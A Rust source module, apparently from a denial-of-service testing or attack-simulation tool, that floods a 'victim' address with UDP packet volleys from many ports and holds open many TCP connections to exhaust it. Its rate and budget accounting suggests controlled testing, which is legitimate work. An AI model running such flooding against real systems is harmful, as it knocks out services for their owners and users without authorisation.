//! What attacks send by: many ports, many connections.

use std::io::{self, IoSlice, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::os::fd::AsRawFd as _;

use nix::sys::socket::{MsgFlags, MultiHeaders, sendmmsg};
use socket2::{Domain, Socket, Type};

use crate::pace::Spent;

/// UDP sockets of one address, connected to the victim. Answers are not read: the kernel drops what does
/// not fit.
#[derive(Debug, Default)]
pub(super) struct Ports {
    sockets: Vec<UdpSocket>,
    next: usize,
}

impl Ports {
    /// Opens so many.
    pub(super) fn open(count: usize, node: SocketAddr) -> io::Result<Self> {
        let mut ports = Ports::default();
        for _ in 0..count.max(1) {
            ports.add(node)?;
        }
        Ok(ports)
    }

    /// Opens one more.
    pub(super) fn add(&mut self, node: SocketAddr) -> io::Result<()> {
        let any: SocketAddr =
            if node.ip().is_loopback() { ([127, 0, 0, 1], 0) } else { ([0, 0, 0, 0], 0) }.into();
        let socket = UdpSocket::bind(any)?;
        socket.connect(node)?;
        socket.set_nonblocking(true)?;
        self.sockets.push(socket);
        Ok(())
    }

    pub(super) fn count(&self) -> usize {
        self.sockets.len()
    }

    /// Sends all packets from one port, the next one at the next call.
    pub(super) fn volley(&mut self, packets: &[Vec<u8>]) -> Spent {
        self.next = (self.next + 1) % self.sockets.len().max(1);
        let Some(socket) = self.sockets.get(self.next) else { return Spent::default() };
        let slices: Vec<[IoSlice<'_>; 1]> = packets.iter().map(|packet| [IoSlice::new(packet)]).collect();
        let mut headers = MultiHeaders::<()>::preallocate(packets.len(), None);
        let addresses = vec![None; packets.len()];
        // Sockets without room and ports that nobody listens at are no errors: what was meant to leave
        // counts as sent.
        let _ = sendmmsg(socket.as_raw_fd(), &mut headers, &slices, addresses, [], MsgFlags::MSG_DONTWAIT);
        let mut spent = Spent::default();
        packets.iter().for_each(|packet| spent.add(Spent::packet(packet.len())));
        spent
    }

    /// Sends one packet from each of the next ports.
    pub(super) fn scatter(&mut self, packets: &[Vec<u8>]) -> Spent {
        let mut spent = Spent::default();
        for packet in packets {
            spent.add(self.volley(std::slice::from_ref(packet)));
        }
        spent
    }
}

/// TCP connections to the victim.
#[derive(Debug, Default)]
pub(super) struct Streams {
    streams: Vec<TcpStream>,
    next: usize,
}

/// Packets of a connection: SYN, ACK, and one with data or the end.
const CONNECTION: Spent = Spent { packets: 3, bytes: 3 * 66 };

impl Streams {
    pub(super) fn count(&self) -> usize {
        self.streams.len()
    }

    /// Opens one more and does not wait for it; out of descriptors, it goes on with those it has.
    /// `receive_bytes` makes the buffer small in which answers pile up.
    pub(super) fn add(&mut self, node: SocketAddr, receive_bytes: Option<usize>) -> io::Result<Spent> {
        let Ok(socket) = Socket::new(Domain::IPV4, Type::STREAM, None) else { return Ok(Spent::default()) };
        socket.set_nonblocking(true)?;
        if let Some(bytes) = receive_bytes {
            socket.set_recv_buffer_size(bytes)?;
        }
        // In progress, or refused: the next look at it tells.
        let _ = socket.connect(&node.into());
        self.streams.push(TcpStream::from(socket));
        Ok(CONNECTION)
    }

    /// Looks at the next connection, and forgets it if the victim has closed it.
    pub(super) fn inspect(&mut self) {
        if self.streams.is_empty() {
            return;
        }
        self.next = (self.next + 1) % self.streams.len();
        let closed =
            self.streams.get_mut(self.next).is_some_and(|stream| match stream.read(&mut [0; 4096]) {
                Ok(read) => read == 0,
                Err(error) => {
                    !matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::NotConnected)
                }
            });
        if closed {
            self.streams.swap_remove(self.next);
        }
    }

    /// Writes to the next connection, and forgets it if it is gone. Gives what was written.
    pub(super) fn write_next(&mut self, bytes: &[u8]) -> Spent {
        if self.streams.is_empty() {
            return Spent::default();
        }
        self.next = (self.next + 1) % self.streams.len();
        let Some(mut stream) = self.streams.get(self.next) else { return Spent::default() };
        match stream.write(bytes) {
            Ok(written) => Spent::packet(written),
            Err(error) if matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::NotConnected) => {
                // Counted, so that nobody tries for ever at once.
                Spent::handshake(1)
            }
            Err(_) => {
                self.streams.swap_remove(self.next);
                Spent::handshake(1)
            }
        }
    }
}
